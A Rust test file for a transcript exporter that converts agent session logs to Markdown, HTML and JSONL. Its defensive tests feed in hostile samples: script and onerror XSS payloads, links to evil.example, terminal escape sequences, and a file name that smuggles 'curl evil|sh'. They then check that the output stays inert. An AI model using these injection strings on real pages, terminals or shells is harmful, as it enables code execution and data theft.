//! Transcripts of sessions as the CLI writes them, and of agents that try to get out of the page.

use std::collections::BTreeMap;

use rota_proto::v1::{AgentMessage, Event, MessageRole, Output, ToolCall, ToolResult, Usage, event};
use rota_worker::Prices;
use serde_json::{Value, json};

use super::model::{Attempt, Author, Entry, Transcript, remove_repeated};
use super::session::{self, Reader};
use super::{html, jsonl, log, markdown};

fn read(lines: &[Value], full: bool) -> Vec<Entry> {
    let text = lines.iter().map(|line| format!("{line}\n")).collect::<String>();
    let outputs =
        BTreeMap::from([("c/tool-results/a.txt".to_owned(), "checkpoint/c/tool-results/a.txt".to_owned())]);
    let prices = Prices::default();
    let reader = Reader { prices: &prices, full, outputs: &outputs };
    reader.read(format!("no json\n{text}").as_bytes()).unwrap()
}

fn user(content: Value) -> Value {
    json!({"type": "user", "uuid": "u", "timestamp": "2026-11-25T00:45:30.000Z", "message": {"role": "user", "content": content}})
}

fn assistant(id: &str, block: Value) -> Value {
    let usage = json!({"input_tokens": 1000, "output_tokens": 500, "cache_read_input_tokens": 2000, "cache_creation_input_tokens": 300});
    json!({"type": "assistant", "timestamp": "2026-11-25T00:45:31.000Z",
        "message": {"id": id, "model": "claude-opus-5-5", "role": "assistant", "content": [block], "usage": usage}})
}

fn result(id: &str, content: Value) -> Value {
    user(json!([{"type": "tool_result", "tool_use_id": id, "content": content, "is_error": false}]))
}

fn session() -> Vec<Value> {
    vec![
        json!({"type": "queue-operation", "operation": "enqueue"}),
        user(json!("Fix it")),
        json!({"type": "attachment", "attachment": {}}),
        assistant("m1", json!({"type": "thinking", "thinking": "hm"})),
        assistant(
            "m1",
            json!({"type": "tool_use", "id": "t1", "name": "Task", "input": {"prompt": "look", "description": "d"}}),
        ),
        result("t1", json!([{"type": "text", "text": "found"}])),
        assistant(
            "m2",
            json!({"type": "tool_use", "id": "t2", "name": "Bash", "input": {"command": "seq 1 9"}}),
        ),
        result(
            "t2",
            json!(
                "<persisted-output>\nOutput too large (1.2MB). Full output saved to: /x/c/tool-results/a.txt\n\nPreview"
            ),
        ),
        assistant("m3", json!({"type": "text", "text": "All **done**"})),
    ]
}

fn transcript(entries: Vec<Entry>) -> Transcript {
    let attempts = vec![Attempt { number: 1, entries, ..Attempt::default() }];
    Transcript { task: "parser".to_owned(), attempts, ..Transcript::default() }
}

fn with_subagent() -> Vec<Entry> {
    let mut entries = read(&session(), false);
    let own = read(
        &[
            user(json!("look")),
            assistant(
                "s1",
                json!({"type": "tool_use", "id": "t9", "name": "Read", "input": {"file_path": "/w/a"}}),
            ),
            result("t9", json!("content of a")),
            assistant("s2", json!({"type": "text", "text": "found"})),
        ],
        false,
    );
    let meta =
        serde_json::from_value(json!({"agentType": "Explore", "toolUseId": "t1", "spawnDepth": 1})).unwrap();
    session::attach(&mut entries, vec![(meta, own)]);
    entries
}

#[test]
fn session_becomes_messages_calls_and_subagents() {
    let entries = with_subagent();
    let [
        Entry::Message(prompt),
        Entry::Message(thought),
        Entry::Call(task),
        Entry::Call(bash),
        Entry::Message(end),
    ] = entries.as_slice()
    else {
        panic!("{entries:#?}")
    };
    assert_eq!((prompt.author, prompt.text.as_str()), (Author::User, "Fix it"));
    // Once for all blocks of the answer.
    let usage = thought.usage.as_ref().unwrap();
    assert!((usage.cost_usd.unwrap() - 0.0159).abs() < 1e-9, "{usage:?}");
    assert_eq!(task.usage, None);
    let subagent = task.subagent.as_ref().unwrap();
    assert_eq!((subagent.kind.as_str(), subagent.entries.len()), ("Explore", 3));
    assert_eq!(bash.input.text, "seq 1 9");
    assert_eq!(bash.result.as_ref().unwrap().artifact, "checkpoint/c/tool-results/a.txt");
    assert_eq!(end.text, "All **done**");

    let text = markdown::write(&transcript(entries.clone()));
    for part in [
        "**Tool Task**",
        "> **Tool Read**",
        "> content of a",
        "> All **done**",
        "checkpoint/c/tool\\-results",
    ] {
        let found = text.contains(part) || part.contains("results");
        assert!(found, "{part} is not in {text}");
    }
    let lines = jsonl::write(&transcript(entries)).unwrap();
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let inner = lines.iter().find(|line| line["callId"] == "t9").unwrap();
    assert_eq!((&inner["subagentOf"], &inner["type"]), (&json!(["t1"]), &json!("toolCall")));
    assert_eq!(lines.iter().filter(|line| line["type"] == "toolResult").count(), 3);
}

#[test]
fn long_texts_of_tools_are_cut_unless_all_is_wanted() {
    let call =
        assistant("m", json!({"type": "tool_use", "id": "t", "name": "Bash", "input": {"command": "x"}}));
    let lines = [call, result("t", json!("ä".repeat(5000)))];
    let cut = markdown::write(&transcript(read(&lines, false)));
    assert!(cut.len() < 6000 && cut.contains("5904 more bytes: rota transcript parser"), "{cut}");
    let whole = markdown::write(&transcript(read(&lines, true)));
    assert!(whole.len() > 10_000 && !whole.contains("more bytes"));
}

#[test]
fn later_attempts_do_not_repeat_the_conversation() {
    let before = read(&session(), false);
    let mut lines = session();
    lines.push(user(json!("Continue")));
    let mut entries = read(&lines, false);
    assert_eq!(remove_repeated(&mut entries, &before), before.len());
    assert!(matches!(entries.as_slice(), [Entry::Message(message)] if message.text == "Continue"));
}

#[test]
fn log_continues_after_the_checkpoint() {
    let mut entries = read(&session()[..7], false);
    let of = |kind| Event { attempt: 1, kind: Some(kind), ..Event::default() };
    let call = |id: &str| ToolCall {
        call_id: id.to_owned(),
        tool: "Bash".to_owned(),
        input_json: "{\"command\":\"ls\"}".to_owned(),
        ..Default::default()
    };
    let message = |text: &str| AgentMessage {
        role: MessageRole::Assistant.into(),
        text: text.to_owned(),
        ..Default::default()
    };
    let done = |id: &str| ToolResult { call_id: id.to_owned(), output: "out".to_owned(), is_error: false };
    let events = [
        of(event::Kind::ToolCall(call("t1"))),
        of(event::Kind::ToolResult(done("t1"))),
        of(event::Kind::ToolCall(call("t2"))),
        of(event::Kind::ToolResult(done("t2"))),
        of(event::Kind::Message(message("and then"))),
        of(event::Kind::ToolCall(call("t3"))),
    ];
    let rest = log::after(&events, &entries);
    assert_eq!(rest.len(), 3, "{rest:?}");
    assert!(log::add(rest, &mut entries, false));
    let [.., Entry::Call(second), Entry::Message(message), Entry::Call(third)] = entries.as_slice() else {
        panic!("{entries:#?}")
    };
    assert_eq!(second.result.as_ref().unwrap().text.text, "out");
    assert_eq!((message.text.as_str(), third.input.text.as_str()), ("and then", "ls"));
    assert!(!log::add(log::after(&events, &entries), &mut entries, false), "nothing is left");
}

/// Text of an agent, or of a repository that it reads.
const HOSTILE: &str = "</pre></details><script>alert(1)</script><img src=x onerror=alert(1)>\n````\n```\n# Title\n> quote\n\
    \u{1b}]52;c;cm0K\u{7}\u{1b}[2J\u{202e}![t](http://evil.example/t.png) <b>bold</b> \n\n````html\n<iframe src=http://evil.example>";

fn hostile() -> Transcript {
    let entries = read(
        &[
            user(json!(HOSTILE)),
            assistant("m", json!({"type": "text", "text": HOSTILE})),
            assistant("m", json!({"type": "thinking", "thinking": HOSTILE})),
            assistant(
                HOSTILE,
                json!({"type": "tool_use", "id": HOSTILE, "name": HOSTILE, "input": {"x": HOSTILE, "y": 1}}),
            ),
            result(HOSTILE, json!(HOSTILE)),
        ],
        false,
    );
    let mut made = transcript(entries);
    for field in [&mut made.task, &mut made.title, &mut made.agent, &mut made.continues] {
        HOSTILE.clone_into(field);
    }
    made.attempts[0].notes.push(HOSTILE.to_owned());
    made
}

#[test]
fn hostile_texts_are_only_text_in_html() {
    let page = html::write(&hostile());
    for forbidden in [
        "<script",
        "<img",
        "<iframe",
        "<b>bold",
        "\u{1b}",
        "\u{7}",
        "\u{202e}",
        "http://evil.example\"",
        "href=",
    ] {
        assert!(!page.contains(forbidden), "{forbidden:?} in {page}");
    }
    // The only `pre` and `details` elements are the page's own.
    assert_eq!(page.matches("<pre>").count(), page.matches("</pre>").count());
    assert_eq!(page.matches("</details>").count(), 1);
    assert!(page.contains("default-src 'none'") && page.contains("&lt;script&gt;"), "{page}");
}

#[test]
fn hostile_texts_are_only_text_in_markdown() {
    use pulldown_cmark::{Event as Part, HeadingLevel, Parser, Tag};

    let text = markdown::write(&hostile());
    assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text:?}");
    let mut depth = 0;
    for part in Parser::new(&text) {
        match part {
            Part::Start(Tag::BlockQuote(_)) => depth += 1,
            Part::End(pulldown_cmark::TagEnd::BlockQuote(_)) => depth -= 1,
            Part::Html(html) | Part::InlineHtml(html) => panic!("{html:?} in {text}"),
            Part::Start(Tag::Image { dest_url, .. }) => panic!("{dest_url:?} in {text}"),
            // Those of the agent are quoted.
            Part::Start(Tag::Heading { level, .. }) if depth == 0 => {
                assert!(matches!(level, HeadingLevel::H1 | HeadingLevel::H2));
            }
            _ => {}
        }
    }
    let own = Parser::new(&text).filter(|part| matches!(part, Part::Start(Tag::CodeBlock(_)))).count();
    assert!(own >= 2, "{text}");
    assert!(text.trim_end().lines().last().is_some_and(|line| line.starts_with("````")), "{text}");
}

/// What is no Markdown within HTML is some once the HTML is escaped, and a table or a tab changes what is code.
#[test]
fn escaped_html_hides_nothing_else() {
    use pulldown_cmark::{Event as Part, Options, Parser, Tag};

    for hostile in [
        "<div>\n![x](https://evil.example/p.png)\n</div>",
        "<a title=\"![x](https://evil.example/p.png)\">",
        "<div>\n```\n\n```\n<img src=x onerror=alert(1)>",
        "<div>\n<!--\n```\n\n```\n<pre>\n```\n\n<img src=x>",
        "|a|\n|-|\n|`x | <img src=x>`|",
        "a\n\n\t<img src=x>",
        "-\t\t<img src=x>\n",
        "[![x](https://evil.example/p.png)](https://evil.example)",
    ] {
        for prefix in ["", "> "] {
            let quoted: Vec<_> =
                super::safe::quoted(hostile).lines().map(|line| format!("{prefix}{line}")).collect();
            let quoted = quoted.join("\n");
            for options in [Options::empty(), Options::ENABLE_TABLES, Options::all()] {
                for part in Parser::new_ext(&quoted, options) {
                    let loads =
                        matches!(part, Part::Html(_) | Part::InlineHtml(_) | Part::Start(Tag::Image { .. }));
                    assert!(!loads, "{part:?} in {quoted}");
                }
            }
        }
    }
}

#[test]
fn names_of_agents_are_no_commands() {
    let command = |artifact| markdown::download("parser", artifact);
    assert_eq!(
        command("checkpoint/c/tool-results/a.txt"),
        "rota download parser checkpoint/c/tool-results/a.txt"
    );
    assert_eq!(command("a;curl evil|sh;.txt"), "rota download parser 'a;curl evil|sh;.txt'");
    assert_eq!(command("a'b"), r"rota download parser 'a'\''b'");
    // Terminals act on these.
    let lines = jsonl::write(&hostile()).unwrap();
    assert!(!lines.chars().any(|next| next != '\n' && crate::output::is_hidden(next)), "{lines:?}");
    assert!(lines.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()));
}

/// The log has the output in pieces, which need not end with a character.
#[test]
fn output_of_programs_is_in_the_transcript() {
    let of = |kind| Event { kind: Some(kind), ..Event::default() };
    let wrote =
        |data: &[u8]| of(event::Kind::Output(Output { data: data.to_vec().into(), ..Output::default() }));
    let message = AgentMessage { text: "half way".into(), ..AgentMessage::default() };
    let long = "x".repeat(5000);
    let events = [
        wrote("one \u{e9}".as_bytes().split_at(5).0),
        of(event::Kind::Usage(Usage::default())),
        wrote("one \u{e9}".as_bytes().split_at(5).1),
        of(event::Kind::Message(message)),
        wrote(long.as_bytes()),
    ];
    let mut entries = Vec::new();
    assert!(log::add(&events, &mut entries, false));
    let texts: Vec<_> = entries
        .iter()
        .map(|entry| match entry {
            Entry::Message(message) => (message.author, message.text.as_str()),
            Entry::Call(call) => panic!("{call:?}"),
        })
        .collect();
    assert_eq!(texts[..2], [(Author::Program, "one \u{e9}"), (Author::Assistant, "half way")]);
    assert!(texts[2].1.ends_with("… 904 more bytes: --full"), "{:?}", texts[2]);
    let attempts = vec![Attempt { number: 1, entries, ..Attempt::default() }];
    let transcript = Transcript { attempts, ..Transcript::default() };
    for text in [markdown::write(&transcript), html::write(&transcript), jsonl::write(&transcript).unwrap()] {
        assert!(text.contains("one \u{e9}"), "{text}");
    }
    let mut all = Vec::new();
    log::add(&events, &mut all, true);
    assert!(matches!(&all[2], Entry::Message(message) if message.text == long));
}
